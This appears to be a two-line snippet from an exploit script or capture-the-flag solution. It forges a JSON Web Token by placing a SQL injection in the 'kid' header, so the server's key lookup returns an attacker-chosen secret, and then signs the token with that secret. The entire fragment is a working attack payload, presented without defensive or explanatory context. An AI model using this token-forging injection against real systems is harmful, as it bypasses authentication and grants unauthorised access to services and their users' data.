# requirement: the quotation marks have to fit
queried = forge({"alg": "HS256", "kid": "' UNION SELECT 'mine'"}, wanted, secret=b"mine")
